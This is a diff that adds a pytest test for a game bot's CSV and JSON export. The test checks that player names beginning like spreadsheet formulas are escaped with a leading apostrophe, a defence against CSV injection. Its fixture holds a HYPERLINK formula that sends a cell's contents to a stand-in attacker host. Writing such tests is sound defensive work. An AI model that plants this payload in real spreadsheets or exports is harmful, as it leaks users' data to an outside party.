@@ -185,3 +185,21 @@ def test_import_reads_a_gzipped_export_and_refuses_a_gzip_bomb() -> None:
         parse_import(bomb)
     with pytest.raises(ImportError_, match="not a JSON file"):
         parse_import(b"\x1f\x8b not really gzip")
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_csv_cells_that_start_like_a_formula_stay_text_and_the_json_stays_exact() -> None:
+    """OWASP's CSV injection: a name starting with =, +, -, @, tab or CR gets a leading
+    apostrophe in the CSV, so a spreadsheet shows it and runs nothing; numbers (negative ones
+    too) stay numbers; the JSON keeps each name exactly, and /import reads it back so."""
+    rows = list(csv.DictReader(io.StringIO(to_csv(FORMULAS, hands(), 50))))
+    assert [r["player"] for r in rows[:4]] == ["'" + name for name in FORMULAS]
+    assert rows[0]["points"].lstrip("-").isdigit() and int(rows[0]["points"]) < 0  # -5, a number
+    from bot.view.export import csv_text
+    assert [csv_text(x) for x in ("\tTab", "\rCR", "Bob", "a=b", "卡罗")] == [
+        "'\tTab", "'\rCR", "Bob", "a=b", "卡罗"]
+    doc = to_json("luzhou", {}, 50, FORMULAS, hands())
+    back = parse_import(json.dumps(doc, ensure_ascii=False).encode())
+    assert back.players == tuple(FORMULAS)
